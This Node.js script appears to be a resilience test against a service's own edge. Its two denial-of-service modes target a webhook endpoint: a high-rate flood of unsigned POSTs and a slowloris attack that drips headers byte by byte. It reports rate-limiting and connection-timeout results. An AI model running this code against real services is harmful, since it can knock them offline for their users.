// An attacker with one address.
//   node flood.mjs <edge> --mode flood --rate 2000 --seconds 15     unsigned webhooks as fast as that
//   node flood.mjs <edge> --mode slow --connections 600             headers a byte at a time
import { Agent, request } from 'node:https';
import { connect } from 'node:tls';
import { parseArgs } from 'node:util';

const { values, positionals } = parseArgs({
  allowPositionals: true,
  options: {
    mode: { type: 'string' },
    rate: { type: 'string', default: '2000' },
    seconds: { type: 'string', default: '15' },
    connections: { type: 'string', default: '600' },
  },
});
const target = new URL(positionals[0]);
const seconds = Number(values.seconds);

async function flood() {
  const agent = new Agent({ keepAlive: true, maxSockets: 150, rejectUnauthorized: false });
  const statuses = {};
  let sent = 0;
  let open = 0;
  const begun = performance.now();
  const one = () => {
    sent += 1;
    open += 1;
    const done = (status) => {
      open -= 1;
      statuses[status] = (statuses[status] ?? 0) + 1;
    };
    const outgoing = request(new URL('/webhook/fal/status', target), { method: 'POST', agent }, (answer) => {
      answer.resume();
      answer.on('end', () => done(answer.statusCode));
    });
    outgoing.on('error', (error) => done(error.code ?? error.message));
    outgoing.end('{}');
  };
  const timer = setInterval(() => {
    const due = ((performance.now() - begun) / 1000) * Number(values.rate);
    while (sent < due && open < 4_000) one();
  }, 5);
  await new Promise((resolve) => setTimeout(resolve, seconds * 1000));
  clearInterval(timer);
  const took = (performance.now() - begun) / 1000;
  while (open > 0 && performance.now() - begun < (seconds + 20) * 1000)
    await new Promise((resolve) => setTimeout(resolve, 50));
  const answered = Object.values(statuses).reduce((a, b) => a + b, 0);
  return { sent, perSecond: Math.round(sent / took), limited: (statuses[429] ?? 0) / answered, statuses };
}

async function slow() {
  const connections = Number(values.connections);
  const begun = performance.now();
  let closed = 0;
  let lastClosedS = 0;
  for (let i = 0; i < connections; i += 1) {
    const socket = connect({
      host: target.hostname,
      port: Number(target.port || 443),
      rejectUnauthorized: false,
    });
    let drip;
    socket.on('secureConnect', () => {
      socket.write('POST /webhook/fal/status HTTP/1.1\r\nHost: x\r\nX-Slow: ');
      drip = setInterval(() => socket.write('a'), 2_000);
    });
    socket.on('error', () => {});
    socket.on('close', () => {
      clearInterval(drip);
      closed += 1;
      lastClosedS = Math.round((performance.now() - begun) / 100) / 10;
    });
    socket.resume();
  }
  while (closed < connections && performance.now() - begun < seconds * 1000)
    await new Promise((resolve) => setTimeout(resolve, 100));
  return { connections, closed, lastClosedS };
}

process.stdout.write(`${JSON.stringify(values.mode === 'slow' ? await slow() : await flood())}\n`);
process.exit(0);
